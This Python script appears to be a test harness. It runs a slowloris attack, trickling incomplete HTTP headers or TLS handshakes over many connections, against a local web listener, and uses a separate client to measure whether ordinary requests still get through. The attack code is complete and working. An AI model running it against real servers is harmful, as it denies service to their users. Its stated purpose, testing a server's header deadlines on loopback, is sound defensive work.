#!/usr/bin/env python3
"""attack_web.py -- a slowloris crowd against the web listener, and an honest
client to measure what gets through.

The crowd: from each source address, PER_SOURCE connections that send a
request line and then one header line every INTERVAL seconds, never the
blank line that ends the headers (with --tls: the start of a TLS
ClientHello and one byte of it every INTERVAL seconds, for an HTTPS
listener such as POSH); a connection the server closes is opened
again (at most RECONNECTS times per slot) until SECONDS pass. What each
connection lived is recorded: the server's header deadline shows as the
longest lifetime.

The honest client: GET PATH from another source, with a bound; returns the
status and the seconds it took (None and the error when it failed).

    attack_web.py --port 5280 --sources 127.0.0.11-15 --per-source 16 \\
        --interval 4 --seconds 20 [--honest-from 127.0.0.20 --path /] [--tls]

prints one JSON line: the crowd's figures and, with --honest-from, the
honest GETs made every --honest-every seconds while the crowd holds on
(SIGTERM ends the crowd early, and the line is printed).
Loopback or addresses of a namespace the caller made; bounded in time and
count."""

import argparse
import json
import os
import signal
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from streamlib import address_range  # noqa: E402


# '127.0.0.11-15' or '127.0.0.11,127.0.0.12' into a list of addresses
source_range = address_range


class Crowd:
    """The trickling connections, each in its own thread (a few hundred at
    most); stop() ends them all and joins the threads."""

    def __init__(self, host, port, sources, per_source, interval, seconds,
                 reconnects=50, path="/", tls=False):
        self.host, self.port = host, port
        self.interval, self.path = interval, path
        self.tls = tls           # trickle a TLS ClientHello, not HTTP
        self.deadline = time.time() + seconds
        self.reconnects = reconnects
        self.stop_event = threading.Event()
        self.lock = threading.Lock()
        self.opened = 0          # connections that were established
        self.refused = 0         # connects that failed or were closed at once
        self.cut = []            # lifetimes (s) of connections the server ended
        self.holding = 0         # connections open now
        self.max_holding = 0
        self.threads = [threading.Thread(target=self._slot, args=(src,), daemon=True)
                        for src in sources for _ in range(per_source)]

    def start(self):
        for t in self.threads:
            t.start()
        return self

    def _sleep(self, s):
        return self.stop_event.wait(s)

    def _slot(self, src):
        for _ in range(self.reconnects + 1):
            if self.stop_event.is_set() or time.time() >= self.deadline:
                return
            self._one(src)

    def _one(self, src):
        try:
            s = socket.create_connection((self.host, self.port), timeout=5,
                                         source_address=(src, 0))
        except OSError:
            with self.lock:
                self.refused += 1
            self._sleep(0.2)
            return
        t0 = time.time()
        with self.lock:
            self.opened += 1
            self.holding += 1
            self.max_holding = max(self.max_holding, self.holding)
        ended_by_server = False
        try:
            s.settimeout(0.2)
            if self.tls:  # a handshake record of 512 bytes, never completed
                s.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
            else:
                s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\n" % self.path).encode())
            n = 0
            next_send = t0 + self.interval
            while not self.stop_event.is_set() and time.time() < self.deadline:
                try:
                    s.recv(4096)  # the end, or an answer before the headers
                    ended_by_server = True  # ended (a refusal): both end it
                    break
                except socket.timeout:
                    pass
                if time.time() >= next_send:
                    n += 1
                    s.sendall(b"\x00" if self.tls else
                              ("X-Trickle-%d: %d\r\n" % (n, n)).encode())
                    next_send += self.interval
        except OSError:
            ended_by_server = True
        finally:
            s.close()
            life = time.time() - t0
            with self.lock:
                self.holding -= 1
                if ended_by_server and life < 0.05:
                    self.refused += 1
                elif ended_by_server:
                    self.cut.append(life)
        if ended_by_server:  # refused at once: back off a little more
            self._sleep(0.2 if life < 0.05 else 0.05)

    def wait_holding(self, n, timeout):
        """Until n connections are open at once (or timeout); True if so."""
        end = time.time() + timeout
        while time.time() < end:
            with self.lock:
                if self.holding >= n:
                    return True
            time.sleep(0.05)
        return False

    def wait_cut(self, n, timeout):
        """Until the server has cut n connections (or timeout); True if so."""
        end = time.time() + timeout
        while time.time() < end:
            with self.lock:
                if len(self.cut) >= n:
                    return True
            time.sleep(0.05)
        return False

    def stop(self):
        self.stop_event.set()
        for t in self.threads:
            t.join(10)

    def figures(self):
        with self.lock:
            cut = sorted(self.cut)
            return {"opened": self.opened, "refused_or_closed_at_once": self.refused,
                    "cut": len(cut), "max_holding": self.max_holding,
                    "longest_life_s": round(cut[-1], 2) if cut else None,
                    "median_life_s": round(cut[len(cut) // 2], 2) if cut else None}


def honest_get(host, port, path, source=None, timeout=5.0, headers=None):
    """GET path from source; (status or None, seconds, body or error text)."""
    t0 = time.time()
    try:
        s = socket.create_connection((host, port), timeout=timeout,
                                     source_address=(source, 0) if source else None)
    except OSError as e:
        return None, time.time() - t0, "connect: %s" % e
    data = b""
    try:
        s.settimeout(max(0.1, timeout - (time.time() - t0)))
        extra = "".join("%s: %s\r\n" % kv for kv in (headers or {}).items())
        s.sendall(("GET %s HTTP/1.1\r\nHost: x\r\n%sConnection: close\r\n\r\n"
                   % (path, extra)).encode())
        while True:
            b = s.recv(65536)
            if not b:
                break
            data += b
            if time.time() - t0 > timeout:
                break
    except OSError as e:
        return None, time.time() - t0, "%s after %d bytes" % (e, len(data))
    finally:
        s.close()
    took = time.time() - t0
    try:
        head, _, body = data.partition(b"\r\n\r\n")
        status = int(head.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return None, took, "no HTTP answer: %r" % data[:60]
    return status, took, body


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--sources", default="127.0.0.11-15")
    ap.add_argument("--per-source", type=int, default=16)
    ap.add_argument("--interval", type=float, default=4.0)
    ap.add_argument("--seconds", type=float, default=20.0)
    ap.add_argument("--reconnects", type=int, default=50)
    ap.add_argument("--honest-from", default=None)
    ap.add_argument("--path", default="/")
    ap.add_argument("--honest-every", type=float, default=2.0)
    ap.add_argument("--honest-timeout", type=float, default=5.0)
    ap.add_argument("--tls", action="store_true",
                    help="trickle a TLS handshake (the honest GET is then not made)")
    a = ap.parse_args()
    if a.per_source * len(source_range(a.sources)) > 2000:
        sys.exit("attack_web.py: at most 2000 connections")
    crowd = Crowd(a.host, a.port, source_range(a.sources), a.per_source,
                  a.interval, a.seconds, a.reconnects, tls=a.tls).start()
    signal.signal(signal.SIGTERM, lambda *_: crowd.stop_event.set())
    if a.tls:
        a.honest_from = None
    honest = []
    try:
        crowd.stop_event.wait(min(2.0, a.seconds / 4))
        while (a.honest_from and not crowd.stop_event.is_set()
               and time.time() < crowd.deadline - a.honest_timeout):
            st, took, _ = honest_get(a.host, a.port, a.path, a.honest_from,
                                     a.honest_timeout)
            honest.append({"status": st, "seconds": round(took, 3)})
            crowd.stop_event.wait(a.honest_every)
        crowd.stop_event.wait(max(0.0, crowd.deadline - time.time()))
    finally:
        crowd.stop()
    out = {"crowd": crowd.figures()}
    if a.honest_from:
        out["honest"] = honest
    print(json.dumps(out))
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
